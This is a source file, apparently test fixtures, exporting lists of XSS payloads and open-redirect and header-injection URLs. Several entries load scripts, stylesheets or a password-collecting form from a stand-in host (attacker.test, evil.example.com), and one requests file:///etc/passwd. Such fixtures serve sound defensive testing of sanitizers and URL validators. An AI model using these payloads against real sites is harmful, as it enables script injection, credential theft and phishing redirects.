// What strangers write where they may write anything, and where they would like others to be
// sent. Written by us, against the rules of HTML, of URLs, and of cookies.

const ELSEWHERE_SCRIPT = "//attacker.test/x.js";

/** Text that became something else elsewhere: in elements, attributes, titles, styles, scripts, templates. */
export const MARKUP = [
  "<script>alert(1)</script>",
  `<ScRiPt/src=${ELSEWHERE_SCRIPT}></sCrIpT>`,
  "<script\u00a0>alert(2)</script >",
  "<scr<script>ipt>alert(3)</scr</script>ipt>",
  `<script type=module>import"${ELSEWHERE_SCRIPT}"</script>`,
  "<img src=x: onerror=alert(4)>",
  "\"><img src=//attacker.test/p.png onerror=alert(5)>",
  "'><svg/onload=alert(6)>",
  "\" autofocus onfocus=alert(7) x=\"",
  "' autofocus onfocus='alert(8)",
  "` autofocus onfocus=alert(9) `",
  " autofocus tabindex=0 onfocus=alert(10) ",
  "</title></head><body><script>alert(11)</script>",
  "</textarea></form><script>alert(12)</script>",
  "</select></option><script>alert(13)</script>",
  "</noscript></template><script>alert(14)</script>",
  "</style></script><script>alert(15)</script>",
  "--!><script>alert(16)</script><!--",
  "]]><script>alert(17)</script><![CDATA[",
  "<iframe srcdoc='<script>parent.alert(18)</script>'></iframe>",
  "<iframe src=javascript:alert(19)>",
  "<a href=javascript:alert(20)>press me</a>",
  "<a href=\"java&Tab;script:alert(21)\">press me</a>",
  "<form action=//attacker.test/><input name=password><button>Sign in</button>",
  "<button form=none formaction=javascript:alert(22)>press me</button>",
  "<base href=//attacker.test/>",
  "<meta http-equiv=refresh content=\"0;url=//attacker.test/\">",
  "<link rel=stylesheet href=//attacker.test/x.css>",
  "<style>@import'//attacker.test/x.css';*{display:none}</style>",
  "<p style=\"background:url(//attacker.test/p.png)\">",
  "<object data=//attacker.test/></object><embed src=//attacker.test/>",
  "<svg><animate xlink:href=#main attributeName=href values=javascript:alert(23)>",
  "<svg><use href=//attacker.test/x.svg#a /></svg>",
  "<math><mi><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(24)&gt;\">",
  "<table background=//attacker.test/p.png><td>",
  "<details open ontoggle=alert(25)>",
  "<video><source onerror=alert(26)></video>",
  "<input autofocus onfocus=alert(27)>",
  "<body onpageshow=alert(28)>",
  "&lt;script&gt;alert(29)&lt;/script&gt;",
  "&#x3c;img src=x onerror=alert(30)&#x3e;",
  "%3Cscript%3Ealert(31)%3C/script%3E",
  "\uff1cscript\uff1ealert(32)\uff1c/script\uff1e",
  "+ADw-script+AD4-alert(33)+ADw-/script+AD4-",
  "{{ 7*7 }}{% include \"login.html\" %}{# x #}${7*7}<%= 7*7 %>",
  "javascript:alert(34)//",
  "<b id=csrf name=csrf>bold</b> & <i>sloping</i>",
  "<a id=elements><a id=elements name=flow href=//attacker.test/>clobbered",
  // Wherever it stands: in an attribute of either kind, an element of text, a script, a comment.
  "'\"`--></title></style></textarea></noscript></script><svg/onload=alert(35)//>\\x3csvg onload=alert(36)>",
  "\"'/*`*/-alert(37)-/*`'\"></option><img/src/onerror='alert(38)'//>${alert(39)}",
];

/** Markup that headers can carry. */
export const HEADERS = MARKUP.filter((text) => /^[\x20-\x7e]+$/.test(text));

const EVIL = "evil.example.com";

/** Where strangers would like a person to go. */
export const ELSEWHERE = [
  `https://${EVIL}/`, `http://${EVIL}`, `HTTPS://${EVIL}`, `https:${EVIL}`, `https:/${EVIL}`, `https:\\\\${EVIL}`,
  `http:///${EVIL}`, `http:/\\${EVIL}`, `//${EVIL}`, `///${EVIL}`, `////${EVIL}`, `/\\${EVIL}`, `\\/${EVIL}`, `\\\\${EVIL}`,
  `/\\/${EVIL}`, `\\${EVIL}`, `/\t/${EVIL}`, `/\n/${EVIL}`, `/\r/${EVIL}`, `\t//${EVIL}`, ` //${EVIL}`, `\u00a0//${EVIL}`,
  `\u3000//${EVIL}`, `//evil\u3002example.com`, `\uff0f\uff0f${EVIL}`, `/\uff0f${EVIL}`, `/\u0000/${EVIL}`, `/\u000b/${EVIL}`,
  `//localhost@${EVIL}`, `https://localhost@${EVIL}`, `https://localhost:1@${EVIL}/`, `https://${EVIL}\\@localhost`,
  `https://localhost.${EVIL}`, `https://${EVIL}#localhost`, `https://${EVIL}?localhost`, `//${EVIL}/%2f..`, `//${EVIL}//..`,
  `/%09/${EVIL}`, `/%2f/${EVIL}`, `/%5c${EVIL}`, `/./\\${EVIL}`, `/..//${EVIL}`, `/.//${EVIL}`, `/account/..//${EVIL}`, `/;@${EVIL}`, `/:@${EVIL}`,
  `@${EVIL}`, `.${EVIL}`, `:80`, `?next=//${EVIL}`, `#//${EVIL}`, "http://2130706433:1/", "http://[::ffff:127.0.0.1]:1/", "http://0x7f.1:1/",
  "javascript:location='//evil.example.com'", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\u0001javascript:alert(1)",
  "javascript://localhost/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "blob:https://evil.example.com/x", "filesystem:http://localhost/x",
  "view-source:https://evil.example.com", "vbscript:msgbox(1)", "file:///etc/passwd", "about:blank", "chrome://version", "mailto:x@evil.example.com", "app-scheme://callback",
  `/account\r\nLocation: https://${EVIL}`, `/account%0d%0aLocation:%20https://${EVIL}`, `/account\r\nRefresh: 0;url=https://${EVIL}`,
  `/account;url=https://${EVIL}`, `/account" http-equiv="refresh" content="0;url=https://${EVIL}`, `/account'><meta http-equiv=refresh content=0;url=//${EVIL}>`,
];
